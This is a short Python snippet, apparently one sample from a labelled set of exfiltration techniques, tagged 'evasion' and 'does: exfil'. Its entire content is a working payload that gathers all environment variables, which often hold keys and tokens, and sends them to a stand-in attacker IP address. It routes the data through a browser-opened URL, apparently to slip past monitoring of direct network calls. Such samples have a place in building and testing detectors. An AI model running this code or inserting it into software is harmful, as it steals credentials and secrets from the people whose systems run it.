# evasion: the environment as a URL's query opened by the web browser module
# grade: medium; does: exfil
import os, webbrowser, urllib.parse
webbrowser.open("http://198.51.100.93/?" + urllib.parse.urlencode(dict(os.environ)))
